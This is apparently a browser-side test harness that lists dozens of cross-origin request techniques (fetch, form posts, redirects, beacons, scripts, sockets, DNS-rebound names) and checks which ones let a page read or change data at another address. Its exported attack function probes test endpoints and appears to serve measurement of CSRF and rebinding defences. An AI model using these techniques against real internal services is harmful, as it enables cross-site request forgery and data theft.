// What a web page can send to an address that is not its own. Runs in a browser: each kind resolves to whether the page could read the answer.
// Whether something was changed, and what a frame shows, is seen from outside.

const patience = 1500

/** Resolves with the first that comes, false after a while. */
const settled = start =>
  new Promise(resolve => {
    const timer = setTimeout(() => resolve(false), patience)
    const end = value => {
      clearTimeout(timer)
      resolve(value)
    }
    Promise.resolve(start(end)).catch(() => end(false))
  })

const element = (name, properties, parent = document.body) => {
  const created = Object.assign(document.createElement(name), properties)
  parent.append(created)
  return created
}

/** An element that loads an address: read, where it says so. */
const loads =
  (name, attribute, properties = {}) =>
  url =>
    settled(end => {
      element(name, {
        ...properties,
        onload: () => end(true),
        onloadeddata: () => end(true),
        onerror: () => end(false),
        [attribute]: url,
      })
    })

const reads = (url, options) => settled(async end => end((await (await fetch(url, options)).text()).includes('secret')))

const form = (url, { method = 'POST', enctype = '', rel = '', path = '/changes' }) =>
  settled(end => {
    const target = `frame${Math.random()}`
    const frame = element('iframe', { name: target })
    const sent = element('form', { method, action: url(path), target, rel, enctype })
    // a GET replaces the query by the fields
    element('input', { name: 'kind', value: new URL(url(path)).searchParams.get('kind') }, sent)
    frame.onload = () => end(false)
    sent.submit()
  })

const request = (url, method, body) =>
  settled(end => {
    const sent = new XMLHttpRequest()
    sent.open(method, url)
    sent.onload = () => end(sent.responseText.includes('secret'))
    sent.onerror = () => end(false)
    sent.send(body)
  })

const socket = url =>
  settled(end => {
    const opened = new WebSocket(url.replace('http', 'ws'))
    opened.onopen = () => end(true)
    opened.onerror = () => end(false)
  })

const eventSource = url =>
  settled(end => {
    const source = new EventSource(url)
    source.onmessage = () => end(true)
    source.onerror = () => end(false)
  })

const script = (url, properties = {}) =>
  settled(end => {
    element('script', {
      ...properties,
      src: url,
      onload: () => end(globalThis.readByScript?.has(new URL(url).search)),
      onerror: () => end(false),
    })
  })

const framed = document => url =>
  settled(end => {
    element('iframe', {
      sandbox: 'allow-scripts allow-forms',
      srcdoc: document(url),
      onload: () => setTimeout(end, 500, false),
    })
  })

/** Kinds of requests to `url(path)`; `evil` is the page's own server, which redirects to what it is told. */
export const kinds = {
  fetch: url => reads(url('/secret.json')),
  'fetch with credentials': url => reads(url('/secret.json'), { credentials: 'include' }),
  'fetch without CORS': url => reads(url('/secret.json'), { mode: 'no-cors' }),
  'fetch without CORS, of what changes something': url => reads(url('/flush'), { mode: 'no-cors' }),
  'fetch POST without CORS': url => reads(url('/changes'), { method: 'POST', mode: 'no-cors', body: 'x' }),
  'fetch POST of a form': url => reads(url('/changes'), { method: 'POST', body: new URLSearchParams({ a: 'b' }) }),
  'fetch POST of JSON': url =>
    reads(url('/changes'), { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
  'fetch PUT': url => reads(url('/changes'), { method: 'PUT', body: 'x' }),
  'fetch DELETE': url => reads(url('/changes'), { method: 'DELETE' }),
  'fetch POST by way of a redirect': (url, evil) =>
    reads(evil(url('/changes'), 307), { method: 'POST', mode: 'no-cors', body: 'x' }),
  XMLHttpRequest: url => request(url('/secret.json'), 'GET'),
  'XMLHttpRequest POST': url => request(url('/changes'), 'POST', 'x'),
  'form POST': url => form(url, {}),
  'form POST as text': url => form(url, { enctype: 'text/plain' }),
  'form POST of files': url => form(url, { enctype: 'multipart/form-data' }),
  'form POST without referrer': url => form(url, { rel: 'noreferrer' }),
  'form GET of what changes something': url => form(url, { method: 'GET', path: '/flush' }),
  'form POST from a sandboxed frame': url =>
    framed(target => `<form method=post action="${target}"></form><script>document.forms[0].submit()</script>`)(
      url('/changes'),
    ),
  'form POST by way of a redirect': (url, evil) => form(() => evil(url('/changes'), 307), {}),
  beacon: url => settled(end => end(navigator.sendBeacon(url('/changes'), 'x') && false)),
  'ping of a link': url =>
    settled(end => {
      element('a', { href: '#', ping: url('/changes') }).click()
      end(false)
    }),
  image: url => loads('img', 'src')(url('/secret.svg')),
  'image of what changes something': url => loads('img', 'src')(url('/flush')),
  'image by way of a redirect': (url, evil) => loads('img', 'src')(evil(url('/secret.svg'), 302)),
  script: url => script(url('/secret.js')),
  'module script': url => script(url('/secret.js'), { type: 'module' }),
  'imported module': url => settled(async end => end((await import(url('/secret.js'))) !== undefined)),
  'script of a worker': url =>
    settled(end => {
      const text = `try { importScripts(${JSON.stringify(url('/secret.js'))}); postMessage(true) } catch { postMessage(false) }`
      new Worker(URL.createObjectURL(new Blob([text]))).onmessage = ({ data }) => end(data)
    }),
  'JSON as a script': url => script(url('/secret.json')),
  stylesheet: url => loads('link', 'href', { rel: 'stylesheet' })(url('/secret.css')),
  'imported stylesheet': url =>
    settled(end => {
      element('style', { textContent: `@import url(${url('/secret.css')})` })
      setTimeout(() => end(getComputedStyle(document.body).getPropertyValue('--secret') !== ''), 600)
    }),
  sound: url => loads('audio', 'src')(url('/secret.wav')),
  frame: url => settled(end => element('iframe', { src: url('/secret.html'), onload: () => end(false) })),
  object: url =>
    settled(end =>
      element('object', { data: url('/secret.html'), onload: () => end(false), onerror: () => end(false) }),
    ),
  embed: url =>
    settled(end => element('embed', { src: url('/secret.html'), onload: () => end(false), onerror: () => end(false) })),
  window: url =>
    settled(end => {
      const opened = window.open(url('/secret.html'))
      setTimeout(() => {
        let text = ''
        try {
          text = opened.document.body.textContent
        } catch {
          // another origin
        }
        opened?.close()
        end(text.includes('secret'))
      }, 800)
    }),
  WebSocket: url => socket(url('/socket')),
  EventSource: url => eventSource(url('/events')),
}

/** What a page under a name of its own does once it has pointed that name at the address. */
export const reboundKinds = {
  'rebound name: fetch': url => reads(url('/secret.json')),
  'rebound name: fetch POST': url => reads(url('/changes'), { method: 'POST', body: 'x' }),
  'rebound name: fetch DELETE': url => reads(url('/changes'), { method: 'DELETE' }),
  'rebound name: XMLHttpRequest': url => request(url('/secret.json'), 'GET'),
  'rebound name: form POST': url => form(url, {}),
  'rebound name: image': url => loads('img', 'src')(url('/secret.svg')),
  'rebound name: script': url => script(url('/secret.js')),
  'rebound name: frame': url =>
    settled(end => {
      const frame = element('iframe', { src: url('/secret.html') })
      frame.onload = () => end(frame.contentDocument?.body.textContent.includes('secret') ?? false)
    }),
  'rebound name: WebSocket': url => socket(url('/socket')),
  'rebound name: EventSource': url => eventSource(url('/events')),
}

/** Runs all kinds against an address; returns their names, and of those that read something. */
export async function attack(which, address, evil) {
  const all = which === 'rebound' ? reboundKinds : kinds
  const read = []
  await Promise.all(
    Object.entries(all).map(async ([name, run]) => {
      const url = path => `${address}${path}?kind=${encodeURIComponent(name)}`
      const redirect = (target, status) => `${evil}/redirect?status=${status}&to=${encodeURIComponent(target)}`
      if (await run(url, redirect)) read.push(name)
    }),
  )
  return { tried: Object.keys(all), read }
}
